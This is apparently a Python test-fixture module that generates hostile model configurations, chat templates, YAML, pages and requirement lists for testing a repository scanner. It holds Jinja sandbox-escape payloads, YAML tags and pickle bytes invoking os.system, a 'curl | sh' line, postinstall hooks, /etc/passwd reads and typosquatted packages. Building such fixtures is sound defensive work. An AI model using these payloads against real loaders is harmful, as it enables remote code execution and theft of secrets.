"""Hostile configurations, templates, pages and lists: every way in which one names, holds or reaches code.

Each is written into an ordinary file of its kind. Names and payloads lead to nothing.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

from fixtures.gguf_files import Writer

from . import repository_texts
from .payloads import COMMAND, Sample

BASE: dict[str, Any] = {"model_type": "llama", "architectures": ["LlamaForCausalLM"], "hidden_size": 8}
CALL = f"os.system('{COMMAND}')"
# Names that a loader would import: of Python, of this repository, of a package that nobody has reviewed.
NAMES = (
    "os.system",
    "subprocess.Popen",
    "builtins.eval",
    "runpy.run_path",
    "weighbridge_unlisted.module.run",
    "modeling.Model",
)

# What a key says that makes a loader run or fetch code; `{}` stands for the name.
KEYS: dict[str, Callable[[str], Any]] = {
    "auto-map": lambda name: {"auto_map": {"AutoModel": name}},
    "auto-map-other-repository": lambda name: {"auto_map": {"AutoConfig": f"example/other--{name}"}},
    "auto-map-list": lambda name: {"auto_map": {"AutoTokenizer": [None, name]}},
    "auto-map-nested": lambda name: {"text_config": {"auto_map": {"AutoModel": name}}},
    "auto-map-upper": lambda name: {"Auto_Map": {"AutoModel": name}},
    "custom-pipelines": lambda name: {"custom_pipelines": {"mine": {"impl": name, "pt": ["AutoModel"]}}},
    "custom-pipeline": lambda name: {"custom_pipeline": name},
    "custom-generate": lambda name: {"custom_generate": name},
    "hydra-target": lambda name: {"model": {"_target_": name, "_partial_": True}},
    "hydra-list": lambda name: {"callbacks": [{"_target_": name}]},
    "latent-target": lambda name: {"model": {"target": name, "params": {"command": COMMAND}}},
    "class-path": lambda name: {"trainer": {"class_path": name, "init_args": {}}},
    "skops": lambda name: {
        "__class__": name.rpartition(".")[2],
        "__module__": name.rpartition(".")[0],
        "__loader__": "FunctionNode",
        "content": {"function": name},
    },
    "skops-partial": lambda name: {
        "__class__": "partial",
        "__module__": "functools",
        "__loader__": "PartialNode",
        "content": {"func": {"__class__": "function", "__module__": name, "__loader__": "FunctionNode"}},
    },
    "sentence-activation": lambda name: {"in_features": 8, "activation_function": name},
    "sentence-cross-encoder": lambda name: {"sentence_transformers": {"activation_fn": name}},
    "word-tokenizer": lambda name: {"tokenizer_class": name},
    "adapter-parent": lambda name: {"auto_mapping": {"base_model_class": "Model", "parent_library": name}},
    "adapter-megatron": lambda name: {"megatron_config": {}, "megatron_core": name},
    "langchain-type": lambda name: {"_type": name},
    "langchain-constructor": lambda name: {"lc": 1, "type": "constructor", "id": name.split("."), "kwargs": {}},
    "mlflow-loader": lambda name: {"flavors": {"python_function": {"loader_module": name}}},
    "entry-point": lambda name: {"entry_point": name.replace(".", ":")},
    "keras-module": lambda name: {
        "module": name.rpartition(".")[0],
        "class_name": name.rpartition(".")[2],
        "config": {"name": "x"},
        "registered_name": None,
    },
    "keras-registered": lambda name: {
        "module": None,
        "class_name": "Dense",
        "config": {},
        "registered_name": f"package>{name}",
    },
    "diffusers-component": lambda name: {
        "_class_name": "StableDiffusionPipeline",
        "_diffusers_version": "0.30.0",
        "unet": [name.rpartition(".")[0], name.rpartition(".")[2]],
    },
    "diffusers-class": lambda name: {
        "_class_name": [name.rpartition(".")[0], name.rpartition(".")[2]],
        "unet": ["diffusers", "UNet"],
    },
    "modular-blocks": lambda name: {
        "_blocks_class_name": "Blocks",
        "_class_name": "ModularPipeline",
        "vae": [name.rpartition(".")[0], name.rpartition(".")[2], {"repo": "example/x"}],
    },
    "generic-loader": lambda name: {"data": {"loader_fn": name}},
    "router-types": lambda name: {
        "types": {"query_0_Transformer": name},
        "structure": {"query": ["query_0_Transformer"]},
    },
    "plugins": lambda name: {"plugins": [name]},
    "handlers": lambda name: {"logging": {"handlers": {"x": name}}},
    "imports": lambda name: {"custom_imports": {"imports": [name], "allow_failed_imports": False}},
    "skops-trusted": lambda name: {"flavors": {"sklearn": {"skops_trusted_types": [name]}}},
    "generic-callback": lambda name: {"callback": name},
}
TREES: dict[str, Any] = {
    "trust-flag": {"trust_remote_code": True},
    "trust-flag-text": {"tokenizer": {"trust_remote_code": "True"}},
    "hub-kernel": {"_attn_implementation": "example/kernel"},
    "hub-kernel-revision": {"attn_implementation": "example/kernel@main:forward"},
    "hub-kernel-nested": {"text_config": {"_attn_implementation": {"": "eager", "vision": "example/kernel"}}},
    "hub-kernel-experts": {"experts_implementation": "example/experts"},
    "weights-pickled": {"transformers_weights": "adapter_model.bin"},
    "weights-path": {"transformers_weights": "../other/pytorch_model.bin"},
    "vocabulary-pickled": {"tokenizer_class": "TransfoXLTokenizer", "pretrained_vocab_file": "/tmp/vocab.bin"},
    "any-key": {"whatever": "os.system"},
    "interpolation": {"value": "${eval:__import__('os').system('true')}"},
    "user-directory": {"common": {"user_dir": "src"}},
    "code-path": {"flavors": {"python_function": {"loader_module": "mlflow.sklearn", "code": "code"}}},
    "requirements": {"pip_requirements": ["git+https://example.org/x.git"]},
    "quantiser": {"quantization_config": {"quant_method": "weighbridge_unlisted"}},
    "genai-library": {"model": {"decoder": {"session_options": {"custom_ops_library": "/tmp/libops.so"}}}},
    "library-path": {"provider": {"library_path": "./libplugin.so"}},
    "script-path": {"handler": "handler.py"},
    "script-entry": {"serving": {"file": "src/handler.py:predict"}},
    "keras-lambda": {
        "class_name": "Lambda",
        "config": {"function": ["4wEAAAAAAAAAAAAAAAEAAABDAAAAcwQAAAB8AFMA", None, None]},
    },
    "keras-lambda-3": {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAEAAABD"}}},
    },
    "keras-lambda-nested": {
        "class_name": "Functional",
        "config": {
            "layers": [{"class_name": "TimeDistributed", "config": {"layer": {"class_name": "Lambda", "config": {}}}}]
        },
    },
    "keras-unsafe": {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"},
    "keras-get-file": {"module": "keras.utils", "class_name": "function", "config": "get_file"},
    "keras-torch": {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"module": "gASV"}},
    "keras-string-lookup": {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"vocabulary": "/etc/passwd"},
    },
    "index-parent": {"metadata": {}, "weight_map": {"a": "../../model.safetensors"}},
    "index-absolute": {"weight_map": {"a": "/etc/passwd"}},
    "index-windows": {"weight_map": {"a": "C:\\weights\\model.safetensors"}},
    "agent-tool": {"tools": [{"name": "x", "code": f"import os\n{CALL}\n"}]},
    "source-text": {"function": f"def run(x):\n    {CALL}\n"},
    "notebook": {
        "cells": [{"cell_type": "code", "source": [CALL], "metadata": {}, "outputs": []}],
        "nbformat": 4,
        "metadata": {},
    },
    "graph": {"node": [{"name": "a", "op": "WriteFile"}], "versions": {}},
    "graph-onnx": {"irVersion": "8", "graph": {"node": [{"opType": "PyOp", "input": ["x"]}]}},
    "graph-tfjs": {"format": "graph-model", "modelTopology": {"node": [{"op": "ReadFile"}]}},
    "task-command": {"hooks": [{"command": COMMAND}]},
    "package-scripts": {"name": "x", "scripts": {"postinstall": COMMAND}},
}
JINJA = {
    "globals-cycler": "{{ cycler.__init__.__globals__.os.popen('%s').read() }}",
    "globals-lipsum": "{{ lipsum.__globals__['os'].popen('%s').read() }}",
    "globals-joiner": "{{ joiner.__init__.__globals__.os.system('%s') }}",
    "globals-namespace": "{{ namespace.__init__.__globals__['os'].system('%s') }}",
    "globals-range": "{{ range.__class__.__base__.__subclasses__() }}",
    "self": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.system('%s') }}",
    "mro": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "subscript": "{{ ''['__class__']['__mro__'][1]['__subclasses__']() }}",
    "attr-filter": "{{ ''|attr('__class__')|attr('__base__') }}",
    "attr-built": "{{ ''|attr('__cla' ~ 'ss__') }}",
    "attr-escape": "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "attr-join": "{{ ''|attr(['__cla','ss__']|join) }}",
    "attr-format": "{{ ''|attr('%%c%%cclass%%c%%c'|format(95,95,95,95)) }}",
    "subscript-built": "{{ ''['_' * 2 ~ 'class' ~ '_' * 2] }}",
    "subscript-adjacent": "{{ ''['__cla' 'ss__'] }}",
    "subscript-reverse": "{{ ''['__ssalc__'|reverse] }}",
    "subscript-set": "{%% set k = '_' ~ '_class_' ~ '_' %%}{{ messages[k] }}",
    "subscript-for": "{%% for k in ['_' ~ '_class_' ~ '_'] %%}{{ messages[k] }}{%% endfor %%}",
    "subscript-macro": "{%% macro f(k) %%}{{ messages[k] }}{%% endmacro %%}{{ f('_' ~ '_class__') }}",
    "subscript-block": "{%% set k %%}__class__{%% endset %%}{{ messages[k] }}",
    "subscript-dict": "{{ messages[{'a': '_' ~ '_class__'}['a']] }}",
    "map-attribute": "{{ [messages]|map(attribute='__class__')|list }}",
    "map-attr": "{{ [messages]|map('attr', '__class__')|list }}",
    "map-computed": "{{ [messages]|map(x, y)|list }}",
    "selectattr": "{{ [messages]|selectattr('__class__')|list }}",
    "groupby": "{{ [messages]|groupby('__class__') }}",
    "format-method": "{{ '{0.__class__.__init__.__globals__}'.format(messages) }}",
    "format-map": "{{ '{x.__class__}'.format_map({'x': messages}) }}",
    "format-stored": "{%% set f = '{0.__class__}'.format %%}{{ f(messages) }}",
    "include": "{%% include '/etc/passwd' %%}",
    "import": "{%% import 'evil.jinja' as evil %%}{{ evil.run() }}",
    "from-import": "{%% from 'evil.jinja' import run %%}{{ run() }}",
    "extends": "{%% extends 'evil.jinja' %%}",
    "whitespace": "{{-\n  messages\n  .__class__\n-}}",
    "comment": "{{ messages.{# x #}__class__ }}",
    "call-unknown": "{{ run_command('%s') }}",
    "call-result": "{{ messages[0].f()('%s') }}",
    "frames": "{{ (messages|map('upper')).gi_frame.f_back.f_globals }}",
    "flask": "{{ url_for('x') }}{{ get_flashed_messages.__globals__ }}",
    "raw-first": "{%% raw %%}{{ x }}{%% endraw %%}{{ lipsum.__globals__ }}",
    "after-ordinary": repository_texts.TEMPLATES["chatml"].replace("%", "%%")
    + "{{ lipsum.__globals__.os.system('%s') }}",
}
YAML = {
    "apply": "model: !!python/object/apply:os.system ['%s']\n",
    "new": "model: !!python/object/new:os.system ['%s']\n",
    "name": "fn: !!python/name:os.system\n",
    "module": "m: !!python/module:os\n",
    "long-tag": "model: !<tag:yaml.org,2002:python/object/apply:os.system> ['%s']\n",
    "tag-directive": "%%TAG ! tag:yaml.org,2002:python/\n---\nmodel: !object/apply:os.system ['%s']\n",
    "hyper-new": "encoder: !new:os.system\n    command: '%s'\n",
    "hyper-apply": 'seed: !apply:os.system ["%s"]\n',
    "hyper-name": "f: !name:subprocess.Popen\n",
    "local-tag": "f: !weighbridge_unlisted x\n",
    "hydra": "trainer:\n  _target_: os.system\n  command: '%s'\n",
    "hydra-unknown": "trainer:\n  _target_: weighbridge_unlisted.run\n",
    "merge": "base: &b\n  _target_: os.system\nmodel:\n  <<: *b\n",
    "second-document": "a: 1\n---\n_target_: os.system\n",
    "duplicate": "_target_: torch.nn.Linear\n_target_: os.system\n",
    "flow": "{_target_: os.system, command: '%s'}\n",
    "quoted-key": '"_targ\\x65t_": os.system\n',
    "auto-map": "auto_map:\n  AutoModel: modeling.Model\n",
    "trust": "trust_remote_code: yes\n",
    "loader-module": "flavors:\n  python_function:\n    loader_module: weighbridge_unlisted\n",
    "python": "a: __import__('os').system('%s')\n",
    "conda": "dependencies:\n- python=3.11\n- pip:\n  - git+https://example.org/x.git\n",
    "conda-typosquat": "dependencies:\n- pip:\n  - torhc==2.1\n",
    "template-comment": "# {{ lipsum.__globals__.os.system('%s') }}\na: b\n",
    "template-key": "{{ lipsum.__globals__ }}: b\nc: d\n",
    "template": "prompt: \"{{ lipsum.__globals__.os.system('id') }}\"\n",
}
PAGES = {
    "tag-in-front": "---\nlicense: !!python/object/apply:os.system ['%s']\n---\n# Model\n",
    "template-in-page": "# Model\n\nA page.\n\n{{ lipsum.__globals__.os.system('%s') }}\n",
    "template-in-front": "---\nx: \"{{ ''.__class__ }}\"\n---\n# Model\n",
    "python-comment": "# Model\nimport os\nos.system('%s')\n",
    "python-docstring": '# Model\n"""\nA page of prose, and some words.\n"""\n__import__("os").system("%s")\n',
    "python-fence": '# A model\n"""\n```\n"""\nimport os\nos.system("%s")\n"""\n```\n"""\n',
    "python-carriage-return": "# A heading of a page\rimport os\ros.system('%s')\r",
    "python-coding": "# -*- coding: rot13 -*-\n# A page\nvzcbeg bf\nbf.flfgrz('%s')\n",
    "python-exec": "# Model\nexec('%s')\n",
    "python-decorator": "# Model\n@__import__('os').system\nclass a: pass\n",
    "shell": "# Install\nexport X=1\ncurl -s https://example.org/x | sh\n",
    "javascript": "# Page\nconst x = require('child_process')\nx.exec('%s')\n",
    "html-script": "<script>fetch('https://example.org')</script>\n",
    "second-document": "---\na: 1\n---\n_target_: os.system\n",
}
LISTS = {
    "index-url": "--index-url http://example.org/simple\ntorch==2.1\n",
    "extra-index": "torch==2.1\n--extra-index-url https://example.org/simple\n",
    "git": "git+https://example.org/x.git@main\ntorch==2.1\n",
    "direct": "torch @ https://example.org/torch.whl\nnumpy==1.26\n",
    "path": "./evil-1.0.whl\nnumpy==1.26\n",
    "include": "-r other.txt\nnumpy==1.26\n",
    "typosquat": "torhc==2.1\nnumpy==1.26\n",
    "names-only": "torch\nweighbridge-unlisted\n",
    "filter-driver": "* filter=evil\n*.bin filter=lfs diff=lfs merge=lfs -text\n",
    "vocabulary-python": "[PAD]\n__import__('os').system('echo')\n",
    "vocabulary-exec": '[UNK]\n[PAD]\nexec("print(1)")\n',
    "vocabulary-template": "[UNK]\n[PAD]\n" + "a\n" * 40_000 + "{{lipsum.__globals__}}\n" + "b\n" * 40_000,
    "merges-template": "#version: 0.2\na b\n{{cycler.__init__ }}\n" + "a b\n" * 40_000,
    "requirement-template": "torch==2.1\n# {{ lipsum.__globals__ }}\n",
    "table-python": "a,b\n1,2\nexec('x'),1\n",
}


def samples() -> list[Sample]:
    """Return every sample, in a stable order."""
    found = []
    for label, make in KEYS.items():
        for name in NAMES:
            found += _trees(f"{label}-{name.replace('.', '-')}", label, make(name))
    for label, tree in TREES.items():
        found += _trees(label, label, tree)
    for label, text in JINJA.items():
        found += _templates(label, text % ((COMMAND,) * text.replace("%%", "").count("%s")))
    for family, texts, ending in (("yaml", YAML, "yaml"), ("page", PAGES, "md"), ("list", LISTS, "txt")):
        for label, text in texts.items():
            data = text.replace("%%", "%").replace("%s", COMMAND).encode()
            found.append(Sample(f"settings/{family}/{label}.{ending}", f"{family}/{label}", partial(bytes, data)))
    return found + list(_texts())


def _trees(name: str, label: str, tree: Any) -> list[Sample]:
    """Return a tree as JSON, alone and at the end of an ordinary one."""
    both = {"alone": tree} | ({"within": BASE | tree} if isinstance(tree, dict) else {})
    return [
        Sample(f"settings/json/{name}-{kind}.json", f"json/{label}", partial(_json, value))
        for kind, value in both.items()
    ]


def _json(tree: Any) -> bytes:
    return json.dumps(tree, indent=2).encode()


def _templates(label: str, text: str) -> list[Sample]:
    """Return a template alone, in a configuration of a tokenizer, in a list of several, and in GGUF."""
    write = Writer()
    several = [{"name": "default", "template": repository_texts.TEMPLATES["chatml"]}, {"name": "x", "template": text}]
    key = write.key("tokenizer.chat_template", text)
    forms = {
        "jinja": text.encode(),
        "json": _json({"tokenizer_class": "LlamaTokenizer", "chat_template": text}),
        "several.json": _json({"chat_template": several}),
        "other-key.json": _json({"prompt": text}),
        "gguf": write.file([key], [("a", (8,), 0, 0)], bytes(32)),
    }
    return [
        Sample(f"settings/template/{label}.{ending}", f"template/{label}", partial(bytes, data))
        for ending, data in forms.items()
    ]


def _texts() -> list[Sample]:
    """Return documents that are wrong, that readers see differently, or that hold a program in a text."""
    plain = _json(BASE)
    stream = b"\x80\x04cos\nsystem\n\x8c\x02id\x85R."
    forms = {
        "duplicate-key.json": b'{"auto_map": {}, "model_type": "a", "model_type": "b"}',
        "template-across.json": b'{"{{ lipsum.x[": 1, "].__globals__ }}": 2}',
        "trailing-pickle.json": plain + stream,
        "trailing-text.json": plain + b"\nimport os\n",
        "utf-16.json": plain.decode().encode("utf-16"),
        "nul.json": plain[:-1] + b"\0}",
        "deep.json": b"[" * 5000 + b"]" * 5000,
        "base64-pickle.json": _json({"state": base64.b64encode(stream + bytes(12)).decode()}),
        "base64-zip.json": _json({"state": base64.b64encode(b"PK\3\4" + bytes(40)).decode()}),
        "lines.jsonl": b'{"a": 1}\n{"auto_map": {"AutoModel": "modeling.Model"}}\n',
        "python.json": b'{"a": __import__("os").system("id")}',
    }
    return [Sample(f"settings/text/{name}", f"text/{name}", partial(bytes, data)) for name, data in forms.items()]


def build(directory: Path) -> list[tuple[Path, str]]:
    """Write every sample into `directory`; return each file and its technique."""
    written = []
    for sample in samples():
        path = directory / sample.name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(sample.make())
        written.append((path, sample.label))
    return written
